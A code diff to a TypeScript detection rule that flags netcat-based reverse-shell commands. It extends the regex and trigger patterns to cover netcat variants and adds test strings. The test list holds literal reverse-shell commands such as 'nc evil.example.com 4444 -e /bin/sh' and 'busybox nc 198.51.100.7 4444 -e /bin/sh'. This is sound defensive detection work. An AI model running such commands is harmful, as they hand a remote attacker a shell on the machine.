@@ -6,7 +6,7 @@ import { WORD_START, matchAt } from '../expression.ts';
 import { MAX_REACH, defineRule } from '../rule.ts';
 
 const COMMAND = new RegExp(
-  String.raw`${WORD_START}(?:nc(?:\.exe|\.openbsd|\.traditional)?|ncat(?:\.exe)?|netcat)(?=[ \t\\])`,
+  String.raw`${WORD_START}(?:nc(?:\.exe|\.openbsd|\.traditional)?|ncat(?:\.exe)?|netcat(?:\.openbsd|\.traditional)?)(?=[ \t\\])`,
   'y',
 );
 
@@ -87,7 +87,7 @@ export const reverseShell = defineRule({
     [...literal('nc'), ...oneOf(' \t'), ...oneOf(`-$[:"'${DIGITS}`)],
     [...BEFORE, ...literal('ncat'), ...BLANK],
     [...literal('ncat'), ...oneOf(' \t'), ...oneOf(`-$[:${DIGITS}`)],
-    [...literal('netcat'), ...BLANK],
+    [...literal('netcat'), ...oneOf(' \t\\.')],
     [...literal('nc.'), ...oneOf('eto'), ...oneOf('xrp'), ...oneOf('ea')],
   ],
   match(text, at) {
@@ -110,6 +110,8 @@ export const reverseShell = defineRule({
     'netcat -nv 2001:db8::7 31337',
     'nc -lvnp 4444 -e /bin/bash',
     'nc.traditional -c bash localhost 1337.',
+    'netcat.openbsd 198.51.100.7 443',
+    'busybox nc 198.51.100.7 4444 -e /bin/sh',
     String.raw`{"cmd":"nc \"$RHOST\" $RPORT"}`,
     'nc evil.example.com 4444 -e /bin/sh',
     'nc attacker.example 80',
